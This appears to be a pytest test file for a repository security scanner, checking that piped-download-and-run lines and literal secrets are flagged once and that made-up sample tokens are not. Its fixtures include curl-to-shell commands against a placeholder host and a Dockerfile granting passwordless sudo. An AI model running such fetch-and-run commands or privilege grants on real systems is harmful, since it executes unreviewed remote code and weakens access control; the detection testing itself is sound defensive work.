"""What honest repositories hold raises no alarm, and what is one alarm is not raised twice."""

from __future__ import annotations

from pathlib import Path

import pytest

from plugseal.verbs.scan import scan_path

_DOCKERFILE = """\
FROM docker.io/library/debian@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef
RUN echo 'alias ll=ls' >> /root/.bashrc
RUN echo 'dev ALL=(root) NOPASSWD: /x.sh' > /etc/sudoers.d/dev && chmod 0440 /etc/sudoers.d/dev
"""
_WORKFLOW = """\
on: push
jobs:
  test:
    steps:
      - run: |
          sudo apt-get install -y bats

          curl -LsSf https://get.example.invalid/install.sh | sh
"""


def _findings(tmp_path: Path, files: dict[str, str]) -> list[tuple[str, int, str | None]]:
    for name, text in files.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text)
    return [(found.rule, found.span.line, found.object) for found in scan_path(tmp_path).findings]


def test_a_download_into_a_shell_is_one_finding_with_its_host(tmp_path: Path) -> None:
    script = "#!/bin/sh\ncurl -fsSL https://get.example.invalid/i | bash -s x\n"

    assert _findings(tmp_path, {"a.sh": script}) == [("piped-download-run", 2, "get.example.invalid")]


def test_a_line_of_a_workflow_is_reported_where_it_stands_and_with_its_own_host(tmp_path: Path) -> None:
    found = _findings(tmp_path, {".github/workflows/test.yml": _WORKFLOW})

    assert ("piped-download-run", 8, "get.example.invalid") in found


def test_what_an_image_keeps_does_not_stay_on_the_machine(tmp_path: Path) -> None:
    assert _findings(tmp_path, {"Dockerfile": _DOCKERFILE}) == []


@pytest.mark.parametrize(
    "value",
    [
        pytest.param("sk-proj-abc123def456ghi789", id="letters and digits by turns"),
        pytest.param("sk-or-v1-3b5aaaaaaaaaaaaaaaa", id="one letter many times"),
        pytest.param("sk-or-v1-deadbeefdeadbeef", id="a word in hexadecimal"),
        pytest.param("sk-ant-oat01-some-fallback-token", id="words"),
        pytest.param(
            "-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9wSTRESS\\n-----END PRIVATE KEY-----",
            id="a key cut short",
        ),
        pytest.param(
            "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N",
            id="the sample token",
        ),
    ],
)
def test_a_credential_that_somebody_made_up_to_test_with_is_none(tmp_path: Path, value: str) -> None:
    assert _findings(tmp_path, {"test_redaction.py": f'text = "{value}"\n'}) == []


def test_a_credential_is_reported_once_in_a_file(tmp_path: Path) -> None:
    key = "AKIA" + "Q7SAMPLE2KEY3ID4"
    found = _findings(tmp_path, {"a.py": f'key = "{key}"\nassert key == "{key}"\n'})

    assert found == [("literal-secret", 1, None)]
